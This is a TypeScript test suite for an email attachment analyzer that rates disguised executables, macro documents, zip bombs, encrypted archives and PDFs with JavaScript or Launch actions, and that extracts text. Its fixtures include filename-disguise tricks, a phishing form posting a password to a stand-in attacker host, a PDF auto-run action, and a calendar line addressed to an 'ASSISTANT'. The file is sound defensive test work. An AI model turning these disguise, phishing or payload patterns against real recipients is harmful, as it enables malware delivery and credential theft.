import { randomBytes } from "node:crypto";
import { describe, expect, it } from "vitest";
import { type AttachmentPart, analyzeAttachments } from "../../shared/trust/attachments.js";
import type { AttachmentTrust } from "../../shared/trust/types.js";
import { fakePe, markEncrypted, minimalPdf, ole2, ooxml, zip } from "../fixtures/trust-attachments/build.js";

async function one(part: AttachmentPart): Promise<AttachmentTrust> {
  const [result] = await analyzeAttachments([part]);
  return result;
}

const has = (result: AttachmentTrust, pattern: RegExp) => result.reasons.some((r) => pattern.test(r));

describe("analyzeAttachments: executables and disguises", () => {
  it("flags a PE named report.pdf as an executable whose name does not match its bytes", async () => {
    const result = await one({
      attachmentId: "att_1",
      filename: "report.pdf",
      contentType: "application/pdf",
      content: fakePe(),
    });
    expect(result.attachment_id).toBe("att_1");
    expect(result.detected_type).toBe("application/x-msdownload");
    expect(result.risk).toBe("high");
    expect(has(result, /^Executable content/)).toBe(true);
    expect(has(result, /^Named \.pdf but the content is an executable/)).toBe(true);
    expect(has(result, /^Declared as application\/pdf but the content is an executable/)).toBe(true);
    expect(result.extracted_text).toBeUndefined();
  });

  it("flags a double extension (invoice.pdf.exe)", async () => {
    const result = await one({ filename: "invoice.pdf.exe", content: Buffer.from("just text") });
    expect(result.risk).toBe("high");
    expect(has(result, /Double extension \(\.pdf\.exe\)/)).toBe(true);
    expect(has(result, /Executable file type \(\.exe\)/)).toBe(true);
  });

  it("flags padding before the real extension (invoice.pdf      .scr)", async () => {
    const result = await one({ filename: "invoice.pdf      .scr", content: Buffer.from("x") });
    expect(has(result, /Double extension \(\.pdf\.scr\)/)).toBe(true);
  });

  it("flags a right-to-left override in the filename", async () => {
    // Displays as "invoicexcod.exe"-style tricks: the bytes end in "cod.exe" shown reversed.
    const result = await one({ filename: "invoice\u202Efdp.txt", content: Buffer.from("hello") });
    expect(result.risk).toBe("high");
    expect(has(result, /right-to-left override \(U\+202E\)/)).toBe(true);
  });

  it("flags script extensions by name alone", async () => {
    const result = await one({
      filename: "update.js",
      contentType: "application/octet-stream",
      content: Buffer.from("WScript.Echo(1)"),
    });
    expect(result.risk).toBe("high");
    expect(has(result, /Executable file type \(\.js\)/)).toBe(true);
  });

  it("flags a declared text file that is really an executable", async () => {
    const result = await one({ filename: "notes.txt", contentType: "text/plain", content: fakePe() });
    expect(result.risk).toBe("high");
    expect(has(result, /^Named \.txt but the content is an executable/)).toBe(true);
    expect(result.extracted_text).toBeUndefined();
  });

  it("flags an ELF binary by magic bytes", async () => {
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)]);
    const result = await one({ filename: "data.bin", content: elf });
    expect(result.risk).toBe("high");
    expect(has(result, /Executable content \(ELF executable\)/)).toBe(true);
  });

  it("rates HTML attachments medium", async () => {
    const result = await one({
      filename: "statement.html",
      contentType: "text/html",
      content: Buffer.from("<html><form action='https://evil.example'><input type=password></form></html>"),
    });
    expect(result.risk).toBe("medium");
    expect(has(result, /HTML attachment can hold phishing forms/)).toBe(true);
  });
});

describe("analyzeAttachments: Office macros", () => {
  it("flags a docm by declared type", async () => {
    const result = await one({
      filename: "q3.docm",
      contentType: "application/vnd.ms-word.document.macroEnabled.12",
      content: ooxml(false),
    });
    expect(result.risk).toBe("high");
    expect(has(result, /Macro-enabled Office document \(declared type\)/)).toBe(true);
    expect(has(result, /Macro-enabled Office document \(\.docm\)/)).toBe(true);
  });

  it("flags an OOXML package holding vbaProject.bin even when named .docx", async () => {
    const result = await one({
      filename: "report.docx",
      contentType: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
      content: ooxml(true),
    });
    expect(result.risk).toBe("high");
    expect(has(result, /Office document with macros \(word\/vbaProject\.bin\)/)).toBe(true);
  });

  it("does not flag a plain docx", async () => {
    const result = await one({
      filename: "report.docx",
      contentType: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
      content: ooxml(false),
    });
    expect(result.risk).toBe("none");
    expect(result.reasons).toEqual([]);
  });

  it("flags an OLE2 document with Macros/VBA", async () => {
    const result = await one({ filename: "legacy.doc", contentType: "application/msword", content: ole2(true) });
    expect(result.detected_type).toBe("application/x-cfb");
    expect(result.risk).toBe("high");
    expect(has(result, /Office document with VBA macros/)).toBe(true);
  });

  it("does not flag an OLE2 document without macros", async () => {
    const result = await one({ filename: "legacy.doc", contentType: "application/msword", content: ole2(false) });
    expect(result.risk).toBe("none");
  });
});

describe("analyzeAttachments: archives", () => {
  it("flags a zip holding an exe by name and by magic bytes", async () => {
    const result = await one({
      filename: "photos.zip",
      contentType: "application/zip",
      content: zip({ "setup.exe": fakePe(), "readme.txt": "hi" }),
    });
    expect(result.detected_type).toBe("application/zip");
    expect(result.risk).toBe("high");
    expect(has(result, /Archive entry setup\.exe: Executable file type \(\.exe\)/)).toBe(true);
    expect(has(result, /Archive entry setup\.exe: executable content/)).toBe(true);
  });

  it("flags an executable hidden under a harmless name inside a zip", async () => {
    const result = await one({ filename: "docs.zip", content: zip({ "notes.txt": fakePe() }) });
    expect(result.risk).toBe("high");
    expect(has(result, /notes\.txt: executable content \(Windows executable/)).toBe(true);
  });

  it("recurses into a nested zip holding an exe", async () => {
    const inner = zip({ "payload.txt": fakePe() });
    const result = await one({ filename: "outer.zip", content: zip({ "inner.zip": inner, "a.txt": "x" }) });
    expect(result.risk).toBe("high");
    expect(has(result, /inner\.zip > payload\.txt: executable content/)).toBe(true);
  });

  it("stops recursing past depth 2", async () => {
    let nested = zip({ "deep.txt": fakePe() });
    for (let i = 0; i < 3; i++) nested = zip({ [`level${i}.zip`]: nested });
    const result = await one({ filename: "deep.zip", content: nested });
    expect(has(result, /nested archive too deep to check/)).toBe(true);
    expect(has(result, /executable content/)).toBe(false);
  });

  it("flags an encrypted zip as high without decompressing it", async () => {
    const encrypted = markEncrypted(zip({ "invoice.pdf": minimalPdf("secret") }));
    const result = await one({ filename: "invoice.zip", content: encrypted });
    expect(result.risk).toBe("high");
    expect(has(result, /^Encrypted archive: contents cannot be checked$/)).toBe(true);
  });

  it("flags a zip bomb by compression ratio", async () => {
    const bomb = zip({ "zeros.bin": new Uint8Array(20 * 1024 * 1024) });
    expect(bomb.length).toBeLessThan(200 * 1024);
    const result = await one({ filename: "data.zip", content: bomb });
    expect(result.risk).toBe("high");
    expect(has(result, /Possible zip bomb: 20\.0 MB uncompressed/)).toBe(true);
  });

  it("rates a benign zip low and a small compressible file is no bomb", async () => {
    const result = await one({ filename: "data.zip", content: zip({ "a.csv": "a,b\n".repeat(10_000) }) });
    expect(result.risk).toBe("low");
    expect(result.reasons).toEqual(["Archive (contents checked)"]);
  });

  it("rates 7z and RAR as medium: contents not checked", async () => {
    const sevenZip = Buffer.concat([Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]), randomBytes(64)]);
    const rar = Buffer.concat([Buffer.from("Rar!\x1a\x07\x01\x00", "latin1"), randomBytes(64)]);
    const [a, b] = await analyzeAttachments([
      { filename: "files.7z", content: sevenZip },
      { filename: "files.rar", content: rar },
    ]);
    expect(a.risk).toBe("medium");
    expect(has(a, /rchive whose contents are not checked/)).toBe(true);
    expect(b.risk).toBe("medium");
    expect(has(b, /rchive whose contents are not checked/)).toBe(true);
  });

  it("reports a truncated zip instead of throwing", async () => {
    const broken = zip({ "a.txt": "hello" }).subarray(0, 40);
    const result = await one({ filename: "broken.zip", content: Buffer.from(broken) });
    expect(result.risk).toBe("medium");
    expect(has(result, /Archive could not be read/)).toBe(true);
  });
});

describe("analyzeAttachments: text extraction", () => {
  it("extracts the text of a benign PDF", async () => {
    const result = await one({
      filename: "letter.pdf",
      contentType: "application/pdf",
      content: minimalPdf("Hello from the trust layer"),
    });
    expect(result.detected_type).toBe("application/pdf");
    expect(["none", "low"]).toContain(result.risk);
    expect(result.extracted_text).toContain("Hello from the trust layer");
  });

  it("flags PDF JavaScript and Launch actions, hex-escaped names included", async () => {
    const pdf = Buffer.concat([
      minimalPdf("x"),
      Buffer.from("\n% /OpenAction << /S /J#61vaScript /JS (app.alert(1)) >> /Launch\n"),
    ]);
    const result = await one({ filename: "a.pdf", content: pdf });
    expect(has(result, /PDF contains JavaScript/)).toBe(true);
    expect(has(result, /Launch action/)).toBe(true);
    expect(result.risk).toBe("high");
  });

  it("swallows a broken PDF with a reason", async () => {
    const result = await one({ filename: "broken.pdf", content: Buffer.from("%PDF-1.7\n1 0 obj garbage") });
    expect(result.detected_type).toBe("application/pdf");
    expect(has(result, /PDF text could not be extracted/)).toBe(true);
    expect(result.risk).toBe("low");
  });

  it("extracts a plain text attachment", async () => {
    const result = await one({
      filename: "notes.txt",
      contentType: "text/plain; charset=utf-8",
      content: Buffer.from("Meeting at 10 — café"),
    });
    expect(result.risk).toBe("none");
    expect(result.extracted_text).toBe("Meeting at 10 — café");
  });

  it("extracts csv, json and ics, capped at 64 KB", async () => {
    const big = "é".repeat(40_000); // 80 KB of two-byte characters
    const [csv, json, ics] = await analyzeAttachments([
      { filename: "a.csv", contentType: "text/csv", content: Buffer.from(big) },
      { filename: "a.json", contentType: "application/json", content: Buffer.from('{"a":1}') },
      {
        filename: "invite.ics",
        contentType: "text/calendar",
        content: Buffer.from("BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Budget sync\r\nEND:VEVENT\r\nEND:VCALENDAR"),
      },
    ]);
    expect(Buffer.byteLength(csv.extracted_text ?? "")).toBeLessThanOrEqual(64 * 1024);
    expect(csv.extracted_text?.endsWith("é")).toBe(true); // cut on a character boundary
    expect(json.extracted_text).toBe('{"a":1}');
    expect(ics.extracted_text).toBe("SUMMARY: Budget sync");
  });

  it("reads a calendar's folded and escaped lines as the sentences they hold, and only what a calendar shows", async () => {
    const [ics] = await analyzeAttachments([
      {
        filename: "invite.ics",
        contentType: "text/calendar",
        content: Buffer.from(
          [
            "BEGIN:VEVENT",
            "UID:42@example.test",
            "DESCRIPTION:Agenda follows.\\n\\nPlease bring the list\\, the",
            "  minutes and ",
            "the budget. Note for the scheduling ",
            // A fold written with the space at the end of the line, before a word that looks like a property.
            "ASSISTANT: bring coffee.",
            'ORGANIZER;CN="Kowal, Tomasz":mailto:t.kowal@example.test',
            "ATTENDEE;ROLE=OPT-PARTICIPANT;CN=Executive Assistant:mailto:exec@example.test",
            "LOCATION;LANGUAGE=en:Room 4",
            "END:VEVENT",
          ].join("\r\n"),
        ),
      },
    ]);
    expect(ics.extracted_text).toBe(
      [
        "DESCRIPTION: Agenda follows.\n\nPlease bring the list, the minutes and the budget. Note for the scheduling ASSISTANT: bring coffee.",
        "ORGANIZER: Kowal, Tomasz",
        "ATTENDEE: Executive Assistant",
        "LOCATION: Room 4",
      ].join("\n"),
    );
  });

  it("extracts the words of docx, xlsx, pptx and odt files, not their numbers or markup", async () => {
    const types = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>';
    const [docx, xlsx, pptx, odt] = await analyzeAttachments([
      {
        filename: "brief.docx",
        contentType: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        content: zip({
          "[Content_Types].xml": types,
          "word/document.xml":
            '<w:document><w:body><w:p><w:r><w:t>Source text &amp; notes</w:t></w:r></w:p><w:p><w:r><w:t xml:space="preserve">Second </w:t></w:r><w:r><w:t>line</w:t></w:r></w:p></w:body></w:document>',
          "word/comments.xml":
            "<w:comments><w:comment><w:p><w:r><w:t>A reviewer's note</w:t></w:r></w:p></w:comment></w:comments>",
          "word/styles.xml": "<w:styles><w:t>not read</w:t></w:styles>",
        }),
      },
      {
        filename: "glossary.xlsx",
        contentType: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        content: zip({
          "[Content_Types].xml": types,
          "xl/sharedStrings.xml":
            "<sst><si><t>Term</t></si><si><r><t>Note for </t></r><r><t>the assistant</t></r></si></sst>",
          "xl/worksheets/sheet1.xml":
            '<worksheet><sheetData><row><c t="s"><v>0</v></c><c t="inlineStr"><is><t>inline cell</t></is></c><c><f>SUM(A1)</f><v>42</v></c></row></sheetData></worksheet>',
        }),
      },
      {
        filename: "deck.pptx",
        contentType: "application/vnd.openxmlformats-officedocument.presentationml.presentation",
        content: zip({
          "[Content_Types].xml": types,
          "ppt/slides/slide1.xml": "<p:sld><a:p><a:r><a:t>Slide title</a:t></a:r></a:p></p:sld>",
          "ppt/notesSlides/notesSlide1.xml": "<p:notes><a:p><a:r><a:t>Speaker notes</a:t></a:r></a:p></p:notes>",
        }),
      },
      {
        filename: "letter.odt",
        contentType: "application/vnd.oasis.opendocument.text",
        content: zip({
          mimetype: "application/vnd.oasis.opendocument.text",
          "content.xml":
            "<office:document-content><office:body><office:text><text:p>Dear colleague,</text:p><text:p>the file.</text:p></office:text></office:body></office:document-content>",
        }),
      },
    ]);
    expect(docx.extracted_text).toBe("Source text & notes\nSecond line\n\nA reviewer's note");
    expect(xlsx.extracted_text).toBe("Term\nNote for the assistant\n\ninline cell");
    expect(pptx.extracted_text).toBe("Slide title\n\nSpeaker notes");
    expect(odt.extracted_text).toBe("Dear colleague,\nthe file.");
    for (const result of [docx, xlsx, pptx, odt]) expect(result.risk).toBe("none");
  });

  it("does not read a document's encrypted parts", async () => {
    const [docx] = await analyzeAttachments([
      {
        filename: "locked.docx",
        contentType: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        content: markEncrypted(
          zip({ "[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document><w:t>secret</w:t></w:document>" }),
        ),
      },
    ]);
    expect(docx.extracted_text).toBeUndefined();
  });
});

describe("analyzeAttachments: malformed input", () => {
  it("handles a zero-byte attachment", async () => {
    const result = await one({ filename: "empty.pdf", contentType: "application/pdf", content: Buffer.alloc(0) });
    expect(result.risk).toBe("none");
    expect(result.reasons).toEqual(["Empty attachment"]);
  });

  it("handles garbage bytes", async () => {
    const parts: AttachmentPart[] = Array.from({ length: 20 }, (_, i) => ({
      filename: ["x.bin", "x.zip", "x.pdf", "x.doc", undefined][i % 5],
      contentType: ["application/octet-stream", "application/zip", "application/pdf", "application/msword", undefined][
        i % 5
      ],
      content: randomBytes(1 + i * 97),
    }));
    parts.push({ content: Buffer.from("PK\x03\x04garbage-after-zip-magic", "latin1"), filename: "x.zip" });
    parts.push({ content: Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0]), filename: "x.doc" });
    const results = await analyzeAttachments(parts);
    expect(results).toHaveLength(parts.length);
    for (const r of results) expect(["none", "low", "medium", "high"]).toContain(r.risk);
  });
});
